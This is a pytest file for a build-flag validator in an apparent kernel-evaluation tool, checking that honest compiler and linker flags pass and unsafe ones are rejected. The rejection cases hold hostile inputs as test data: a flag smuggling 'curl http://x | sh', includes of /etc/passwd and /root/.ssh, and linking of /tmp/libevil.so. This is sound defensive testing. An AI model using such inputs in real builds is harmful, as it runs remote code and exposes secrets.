"""Flag policy: what honest kernels write is honoured or dropped with a warning; only flags that bring code or files
from elsewhere (or inject commands) are rejected, each with the flag named."""

from __future__ import annotations

import pytest

from kopt.evaluator.flags import FlagVerdict, classify


def verdict(option: str, flags, target: str = "cuda", **kw) -> FlagVerdict:
    return classify(option, flags, target=target, **kw)


@pytest.mark.parametrize("option, flags, target, kept", [
    ("extra_ldflags", ["-lcublas"], "cuda", ("-lcublas",)),
    ("extra_ldflags", ["-lcublasLt", "-lcudart", "-lcudnn", "-lcurand"], "cuda",
     ("-lcublasLt", "-lcudart", "-lcudnn", "-lcurand")),
    ("extra_ldflags", ["-l", "cufft", "-lcusparse", "-lcusolver"], "cuda", ("-lcufft", "-lcusparse", "-lcusolver")),
    ("extra_ldflags", ["-fopenmp"], "cpu", ("-fopenmp",)),
    ("extra_ldflags", ["-lgomp"], "cpu", ("-lgomp",)),
    ("extra_cflags", ["-O3", "-march=native", "-funroll-loops", "-fopenmp"], "cpu",
     ("-O3", "-march=native", "-funroll-loops", "-fopenmp")),
    ("extra_cflags", ["-O2 -std=c++17"], "cpu", ("-O2", "-std=c++17")),
    ("extra_cflags", "-O3 -std=c++20", "cpu", ("-O3", "-std=c++20")),
    ("extra_cuda_cflags", ["-O3", "--expt-relaxed-constexpr", "-lineinfo", "-DNDEBUG", "-DTILE=32"], "cuda",
     ("-O3", "--expt-relaxed-constexpr", "-lineinfo", "-DNDEBUG", "-DTILE=32")),
    ("extra_cuda_cflags", ["-Xcompiler", "-fopenmp"], "cuda", ("-Xcompiler=-fopenmp",)),
    ("extra_cflags", ["-mavx2", "-mfma"], "cpu", ("-mavx2", "-mfma")),
])
def test_honest_flags_kept(option, flags, target, kept):
    v = verdict(option, flags, target)
    assert v.ok and v.kept == kept and v.warnings == (), v


@pytest.mark.parametrize("option, flags, needle", [
    ("extra_ldflags", [""], "empty"),
    ("extra_cflags", [""], "empty"),
    ("extra_cuda_cflags", ["-arch=sm_80"], "architecture"),
    ("extra_cflags", ["-g"], "debug"),
    ("extra_cflags", ["-Wall", "-Wno-unused"], "warning flags"),
    ("extra_cflags", ["-fPIC"], "kopt sets it"),
    ("extra_cflags", ["-fsomething-new"], "not on kopt's list"),
    ("extra_cuda_cflags", ["-Xptxas=-v"], "ptxas"),
])
def test_harmless_flags_dropped_with_a_warning(option, flags, needle):
    v = verdict(option, flags)
    assert v.ok and v.kept == (), v
    assert any(needle in w for w in v.warnings), v.warnings


@pytest.mark.parametrize("flag", ["-ffast-math", "--use_fast_math", "-ffp-contract=fast", "-Ofast"])
def test_fast_math_dropped_unless_allowed(flag):
    v = verdict("extra_cuda_cflags", [flag])
    assert v.ok and v.kept == () and any("floating-point" in w for w in v.warnings), v
    assert verdict("extra_cuda_cflags", [flag], allow_fast_math=True).kept == (flag,)


def test_cuda_libraries_dropped_on_cpu_target():
    v = verdict("extra_ldflags", ["-lcublas"], "cpu")
    assert v.ok and v.kept == () and "cpu target" in v.warnings[0]
    v = verdict("extra_cuda_cflags", ["-O3"], "cpu")
    assert v.ok and v.kept == ()


@pytest.mark.parametrize("option, flags, needle", [
    ("extra_ldflags", ["-L/usr/lib/evil"], "library search path"),
    ("extra_ldflags", ["-L", "/tmp"], "library search path"),
    ("extra_ldflags", ["-Wl,-rpath,/tmp"], "linker"),
    ("extra_ldflags", ["-Xlinker", "--wrap=malloc"], "linker"),
    ("extra_ldflags", ["/tmp/libevil.so"], "path or a file"),
    ("extra_ldflags", ["libevil.a"], "path or a file"),
    ("extra_ldflags", ["payload.o"], "path or a file"),
    ("extra_ldflags", ["-lcurl"], "libcurl"),
    ("extra_ldflags", ["-l:libevil.so"], "library file"),
    ("extra_cflags", ["-include", "/etc/passwd"], "forces an include"),
    ("extra_cflags", ["-I/root/.ssh"], "include path"),
    ("extra_cflags", ["-isystem", "/x"], "include path"),
    ("extra_cflags", ["-B/tmp/bin"], "programs"),
    ("extra_cflags", ["-fplugin=evil"], "plugin"),
    ("extra_cflags", ["-specs=x"], "spec file"),
    ("extra_cflags", ["@flags.txt"], "from a file"),
    ("extra_cuda_cflags", ["--compiler-bindir", "gcc-evil"], "another host compiler"),
    ("extra_cuda_cflags", ["-ccbin=gcc-evil"], "another host compiler"),
    ("extra_cflags", ["-Xclang", "-load"], "clang"),
    ("extra_cflags", ["-O3; curl http://x | sh"], "shell metacharacter"),
    ("extra_cflags", ["-O3\nbuild x: phony"], "control character"),
    ("extra_cflags", ["-DP=/etc/passwd"], "path"),
    ("extra_cuda_cflags", ["-Xcompiler", "-I/root"], "include path"),
    ("extra_cflags", [3], "not a string"),
    ("extra_include_paths", ["/root"], "include path"),
    ("build_directory", "/tmp/other", "build directories"),
])
def test_flags_from_elsewhere_rejected_with_the_flag_named(option, flags, needle):
    v = verdict(option, flags)
    assert not v.ok, v
    assert any(needle in r for r in v.rejections), v.rejections
    assert all(r.startswith(option) or r.startswith("build_directory") for r in v.rejections)


def test_empty_include_path_is_only_a_warning():
    v = verdict("extra_include_paths", [""])
    assert v.ok and v.warnings


def test_other_options_say_nothing_or_warn():
    assert verdict("verbose", False) == FlagVerdict((), (), ())
    assert verdict("with_cuda", True).ok
    assert verdict("extra_cflags", None) == FlagVerdict((), (), ())
